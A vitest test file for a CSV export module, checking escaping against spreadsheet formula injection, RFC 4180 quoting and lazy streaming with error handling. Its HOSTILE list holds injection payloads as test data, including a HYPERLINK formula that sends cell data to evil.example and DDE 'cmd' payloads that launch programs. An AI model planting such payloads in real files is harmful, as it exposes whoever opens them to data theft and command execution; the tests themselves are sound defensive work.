import { expect, test } from "vitest";
import { csvHead, csvLines } from "../../src/exports/csv.ts";
import { streamCsv } from "../../src/exports/stream-csv.ts";

import { createLogger } from "../../src/platform/logger.ts";
import type { Position } from "../../src/platform/paging.ts";
import { testDeps } from "../harness/world.ts";
import { parseCsv } from "./parse-csv.ts";

const HOSTILE = [
  `=HYPERLINK("https://evil.example/?"&A1;"Open")`,
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-1+1",
  "-cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "-",
  "-1.5.",
  "--1",
  " =1+1",
  "\u00a0=1+1",
];

test.each(HOSTILE)("%j is text, not a formula: an apostrophe stands before it", (cell) => {
  const [[read]] = parseCsv(csvLines([[cell]])) as [[string]];
  expect(read).toMatch(/^'/);
  expect(read.replaceAll("'", "")).toBe(cell.replaceAll("'", ""));
});

test.each(["Acme;=1+1;x", "Acme\t=1+1", "Acme\n=1+1", "Acme\r\n-1", "Acme;@SUM(1)"])(
  "%j begins no formula within itself, where another separator holds",
  (cell) => {
    const line = csvLines([["a", cell, "b"]]);
    expect(line.split(/[;\t\r\n]/).filter((part) => /^[=+\-@＝＋－＠]/.test(part))).toEqual([]);
  },
);

// https://www.rfc-editor.org/rfc/rfc4180#section-2
test.each(["\n", "\r", "\r\n", '"', ","])("a cell with %j in it is quoted, and read as it was", (mark) => {
  const cell = `a${mark}b`;
  expect(csvLines([[cell, "", "c"]])).toBe(`"${cell.replaceAll('"', '""')}",,c\r\n`);
  expect(parseCsv(csvLines([[cell]]))).toEqual([[cell]]);
});

// As a spreadsheet reads it whose own separator this is, quotes taken off as RFC 4180 says where a cell begins
// with one, and left where it does not.
test.each(
  [";", "\t"].flatMap((separator) =>
    ["=1+1", '"=1+1"', '""=1+1""', "\"=cmd|' /C calc'!A0\";x", " =1+1", '"@SUM(1)', '"-1+1'].map(
      (formula) => [separator, formula],
    ),
  ),
)("behind a %j, %j begins no formula, whatever quotes are about it", (separator, formula) => {
  const line = csvLines([["a", `x${separator}${formula}`, "b"]]).trimEnd();
  for (const cell of splitAt(line, separator)) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
});

/** The cells of one line: leniently, as spreadsheets do. */
function splitAt(line: string, separator: string): string[] {
  const cells: string[] = [];
  let [cell, quoted, begun] = ["", false, false];
  for (let at = 0; at < line.length; at++) {
    const character = line[at];
    if (quoted && character === '"' && line[at + 1] === '"') cell += line[++at];
    else if (quoted && character === '"') quoted = false;
    else if (!begun && character === '"') quoted = true;
    else if (!quoted && character === separator) {
      cells.push(cell);
      [cell, begun] = ["", false];
      continue;
    } else cell += character;
    begun = true;
  }
  return [...cells, cell];
}

test("numbers below zero stay numbers, as integers and as decimals", () => {
  expect(csvLines([[-12900, "-129.00", "-5", 0, 12]])).toBe("-12900,-129.00,-5,0,12\r\n");
});

test("quotes, commas, line breaks, emptiness and other scripts come back as they were", () => {
  const cells = ['say "hi"', "a,b", "a\nb", "", "Ærø 日本 🎉", "it's", " a = 1"];
  expect(parseCsv(csvLines([cells]))).toEqual([cells]);
  expect(csvLines([[null, true, false, ""]])).toBe(",true,false,\r\n");
});

test("a file begins with a byte order mark, then the names; without rows it is these alone", () => {
  expect(csvHead(["id", "amount"])).toBe("\uFEFFid,amount\r\n");
  expect(csvLines([])).toBe("");
});

const scope = { tenantId: "t", environmentId: "e" };
const errors: string[] = [];
const log = {
  ...createLogger({}),
  error: (message: string) => void errors.push(message),
};

/** Rows 0 to `count`, two a page; remembers how often it was read, and breaks at the given page. */
function source(count: number, breaksAt = Number.POSITIVE_INFINITY) {
  const state = { reads: 0 };
  const read = async ({ limit, after }: { limit: number; after: Position | null }) => {
    state.reads += 1;
    if (state.reads === breaksAt) throw new Error("D1 is gone");
    const from = after === null ? 0 : after.timeMs + 1;
    return Array.from({ length: Math.min(limit + 1, count - from) }, (_, index) => from + index);
  };
  const common = { columns: ["row"], pageSize: 2, read };
  const of = { toCells: (row: number) => [row], positionOf: (row: number) => ({ timeMs: row, id: "" }) };
  return { state, source: { ...common, ...of } };
}

test("the first chunk is there before another page is asked for, and each page only when the reader wants it", async () => {
  const { state, source: rows } = source(5);
  const reader = (await streamCsv(testDeps({ log }), scope, rows)).getReader();
  const chunk = async () =>
    new TextDecoder("utf-8", { fatal: true, ignoreBOM: true }).decode((await reader.read()).value);
  expect(await chunk()).toBe("\uFEFFrow\r\n0\r\n1\r\n");
  await new Promise((resolve) => setTimeout(resolve, 20));
  expect(state.reads).toBe(1);
  expect(await chunk()).toBe("2\r\n3\r\n");
  expect(state.reads).toBe(2);
  expect(await chunk()).toBe("4\r\n");
  expect((await reader.read()).done).toBe(true);
  expect(state.reads).toBe(3);
});

test("a page that cannot be read breaks the stream off: it never ends as if it were whole", async () => {
  const stream = await streamCsv(testDeps({ log }), scope, source(5, 2).source);
  const reader = stream.getReader();
  expect((await reader.read()).done).toBe(false);
  await expect(reader.read()).rejects.toThrow("D1 is gone");
  expect(errors).toEqual(["export broke off"]);
  const whole = await streamCsv(testDeps({ log }), scope, source(5, 3).source);
  await expect(new Response(whole).text()).rejects.toThrow();
});

test("a first page that cannot be read is an error and no file", async () => {
  await expect(streamCsv(testDeps({ log }), scope, source(5, 1).source)).rejects.toThrow("D1 is gone");
});
